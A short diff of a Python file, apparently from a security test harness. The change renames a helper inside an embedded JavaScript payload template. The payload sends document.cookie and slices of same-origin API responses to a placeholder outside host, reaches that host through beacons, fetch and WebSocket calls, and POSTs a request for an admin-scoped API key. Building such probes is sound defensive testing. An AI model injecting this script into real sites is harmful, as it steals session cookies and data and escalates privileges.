@@ -6,15 +6,15 @@ from collections.abc import Callable
 
 _SCRIPT = """
 (() => {{
-  const say = word => {{ (new Image()).src = '{elsewhere}/' + word; }};
-  say('image');
-  try {{ say('cookie?' + encodeURIComponent(document.cookie)); }} catch (e) {{ }}
+  const send = path => {{ (new Image()).src = '{elsewhere}/' + path; }};
+  send('image');
+  try {{ send('cookie?' + encodeURIComponent(document.cookie)); }} catch (e) {{ }}
   try {{ fetch('{elsewhere}/fetch', {{mode: 'no-cors'}}).catch(() => 0); }} catch (e) {{ }}
   try {{ navigator.sendBeacon('{elsewhere}/beacon', document.URL); }} catch (e) {{ }}
   try {{
-    fetch('{home}api/contents').then(r => r.text()).then(t => say('api?' + t.slice(0, 40))).catch(() => 0);
+    fetch('{home}api/contents').then(r => r.text()).then(t => send('api?' + t.slice(0, 40))).catch(() => 0);
     fetch('{home}figserve/api/figures', {{credentials: 'include'}}).then(r => r.text())
-      .then(t => say('figures?' + t.slice(0, 40))).catch(() => 0);
+      .then(t => send('figures?' + t.slice(0, 40))).catch(() => 0);
     fetch('{home}figserve/api/keys', {{method: 'POST', body: '{{"scopes": ["admin"]}}'}}).catch(() => 0);
   }} catch (e) {{ }}
   try {{ new WebSocket('{elsewhere}/socket'.replace('http', 'ws')); }} catch (e) {{ }}
